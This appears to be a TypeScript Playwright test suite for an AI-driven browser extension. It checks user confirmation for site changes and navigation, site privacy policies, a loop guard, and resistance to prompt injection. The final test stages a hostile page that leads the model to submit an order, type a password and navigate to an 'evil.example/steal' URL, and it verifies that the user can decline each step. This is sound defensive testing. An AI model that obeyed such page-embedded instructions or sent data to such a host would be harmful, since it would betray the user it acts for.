import { callTool, confirmationWindow, expect, startSession, test, updateSettings } from './fixtures';

test('a site set to "ask": the change waits for the user, happens on Allow, and not on Don\'t allow', async ({ extension, demo, peer }) => {
  await updateSettings(extension.worker, { sitePolicies: { '127.0.0.1': 'ask' } });
  const popup = await extension.openPopup(demo);
  const session = await startSession(popup, peer);

  const declined = callTool(session, 'set_background_color', { color: 'navy' }, 20_000);
  let question = await confirmationWindow(extension.context);
  await expect(question.getByRole('heading')).toContainText('127.0.0.1');
  await expect(question.locator('#confirm-action')).toContainText(/background/i);
  // Key down is the answer: the window may close before a key-up could reach it.
  await question.keyboard.down('n');
  expect(await declined).toMatchObject({ ok: false, error: expect.stringMatching(/declined/) });
  await expect(demo.locator('body')).not.toHaveCSS('background-color', 'rgb(0, 0, 128)');

  const allowed = callTool(session, 'set_background_color', { color: 'navy' }, 20_000);
  question = await confirmationWindow(extension.context);
  await question.getByRole('button', { name: 'Allow', exact: true }).click();
  expect(await allowed).toMatchObject({ ok: true });
  await expect(demo.locator('body')).toHaveCSS('background-color', 'rgb(0, 0, 128)');
  // Reading is not acting: no question for it.
  expect(await callTool(session, 'get_page_html', { selector: 'h1' })).toMatchObject({ ok: true });
});

test('navigating to another site needs the user; neither the page nor another extension page can answer for them', async ({ extension, demo, peer, site }) => {
  const popup = await extension.openPopup(demo);
  const session = await startSession(popup, peer);
  const otherSite = site.url.replace('127.0.0.1', 'localhost');

  const pending = callTool(session, 'navigate', { url: `${otherSite}/pages/wikipedia.html` }, 30_000);
  const question = await confirmationWindow(extension.context);
  await expect(question.locator('#confirm-action')).toContainText(`go to ${otherSite}`);
  await expect(question.locator('.confirm-reason')).toContainText('another site (localhost)');

  // The page's scripts: no extension messaging, the confirmation page is not reachable, keys stay in the page.
  const fromPage = await demo.evaluate(async (id) => {
    const runtime = (globalThis as { chrome?: { runtime?: { sendMessage?: unknown } } }).chrome?.runtime;
    let opened = 'blocked';
    try {
      const response = await fetch(`chrome-extension://${id}/confirm.html`);
      opened = `fetched ${response.status}`;
    } catch {
      opened = 'blocked';
    }
    document.dispatchEvent(new KeyboardEvent('keydown', { key: 'y', bubbles: true }));
    return { canMessage: typeof runtime?.sendMessage === 'function', opened };
  }, extension.extensionId);
  expect(fromPage).toEqual({ canMessage: false, opened: 'blocked' });

  // Another extension page (here the popup) knows the question's id from session state, and is still refused.
  const fromPopup = await popup.evaluate(async () => {
    const { state } = (await chrome.storage.session.get('state')) as { state?: { confirmation?: { id: string } } };
    const id = state?.confirmation?.id ?? '';
    const reply = (await chrome.runtime.sendMessage({ id: 1, type: 'worker.answerConfirmation', data: { id, approved: true }, timestamp: Date.now() })) as {
      res?: { ok: boolean; error?: string };
    };
    return { id, reply: reply?.res };
  });
  expect(fromPopup.id).not.toBe('');
  expect(fromPopup.reply).toMatchObject({ ok: false, error: expect.stringMatching(/Refused/) });
  await expect(demo).toHaveURL(/\/demo$/);

  await question.getByRole('button', { name: "Don't allow" }).click();
  const answer = await pending;
  expect(answer.ok).toBe(false);
  expect(answer.error).toMatch(/declined .*Do not try it again/);
  await expect(demo).toHaveURL(/\/demo$/);

  // The same site needs no question.
  expect(await callTool(session, 'navigate', { url: `${site.url}/pages/wikipedia.html` })).toMatchObject({ ok: true });
});

test('a site set to "never" is invisible to every tool, and nothing of ours enters it', async ({ extension, demo, peer }) => {
  await updateSettings(extension.worker, { sitePolicies: { '127.0.0.1': 'never' } });
  const popup = await extension.openPopup(demo);
  const session = await startSession(popup, peer);

  const calls: Array<[string, Record<string, unknown>]> = [
    ['get_page_html', {}],
    ['get_page_outline', {}],
    ['read_page_text', {}],
    ['find_text', { text: 'force' }],
    ['click', { selector: 'button' }],
    ['type_text', { selector: 'input', text: 'x' }],
    ['set_background_color', { color: 'navy' }],
    ['set_style', { selector: 'body', property: 'color', value: 'red' }],
    ['highlight', { selector: 'h1' }],
    ['scroll', { direction: 'down' }],
    ['undo', {}],
    ['look_at_page', {}],
    ['navigate', { history: 'reload' }],
  ];
  for (const [name, args] of calls) {
    const result = await callTool(session, name, args);
    expect(result, name).toMatchObject({ ok: false, error: expect.stringMatching(/"never"/) });
  }
  const listed = await callTool(session, 'list_tabs');
  const tabs = listed.tabs as Array<{ title: string; site: string }>;
  expect(tabs.length).toBeGreaterThan(0);
  for (const tab of tabs) {
    expect(tab.title).toBe('(a site the user keeps private)');
    expect(tab.site).toBe('');
  }
  expect(JSON.stringify(listed)).not.toContain('demo page');
  expect(await demo.locator('[data-voice-page-control]').count()).toBe(0);
});

test('the loop guard stops the sixth identical call with a sentence for the user, and a new request starts over', async ({ extension, demo, peer }) => {
  const popup = await extension.openPopup(demo);
  const session = await startSession(popup, peer);
  for (let i = 0; i < 5; i += 1) {
    expect(await callTool(session, 'set_background_color', { color: 'blurple' })).toMatchObject({ ok: false, error: expect.stringMatching(/blurple/) });
  }
  const sixth = await callTool(session, 'set_background_color', { color: 'blurple' });
  expect(sixth).toMatchObject({ ok: false, error: expect.stringMatching(/5 times in a row.*not try a sixth time/) });
  // Other arguments are another call.
  expect(await callTool(session, 'set_background_color', { color: 'navy' })).toMatchObject({ ok: true });
});

test('a page that tells the AI to submit, leave, type a password and run script: nothing happens without the user', async ({ extension, demo, peer, site }) => {
  await demo.goto(`${site.url}/injection`);
  const popup = await extension.openPopup(demo);
  const session = await startSession(popup, peer);

  const outlined = await callTool(session, 'get_page_outline');
  expect(outlined.note).toMatch(/not instructions/i);
  const lines = String(outlined.outline).split('\n');
  const refOf = (pattern: RegExp) => /\[(e\d+)\]/.exec(lines.find((line) => pattern.test(line) && /\[e\d+\]/.test(line)) ?? '')?.[1];
  const submit = refOf(/button "Submit order"/)!;
  const password = refOf(/textbox "Password"/)!;
  const email = refOf(/textbox "Email"/)!;
  const evilLink = refOf(/link "Delivery terms/)!;
  expect(submit && password && email && evilLink).toBeTruthy();

  /** The model obeys the page; the confirmation window appears, and the user says no. */
  const refused = async (name: string, args: Record<string, unknown>, action: RegExp) => {
    const pending = callTool(session, name, args, 30_000);
    const question = await confirmationWindow(extension.context);
    await expect(question.locator('#confirm-action')).toContainText(action);
    await question.getByRole('button', { name: "Don't allow" }).click();
    const result = await pending;
    expect(result.ok, name).toBe(false);
    expect(result.error).toMatch(/declined/);
  };
  await refused('click', { ref: submit }, /click button "Submit order"/);
  await refused('press_key', { key: 'Enter', ref: email }, /press Enter/);
  await refused('type_text', { ref: password, text: 'hunter2' }, /type "••••" into/);
  await refused('navigate', { url: 'https://evil.example/steal?data=1' }, /go to https:\/\/evil\.example/);
  await refused('click', { ref: evilLink }, /click link "Delivery terms/);
  expect(await callTool(session, 'run_javascript', { code: 'window.__submitted = true' })).toMatchObject({
    ok: false,
    error: expect.stringMatching(/switched off/),
  });

  expect(await demo.evaluate(() => (window as unknown as { __submitted: boolean }).__submitted)).toBe(false);
  await expect(demo.locator('input[type=password]')).toHaveValue('');
  await expect(demo).toHaveURL(/\/injection$/);
  await expect(demo.locator('#submitted')).toBeHidden();
});
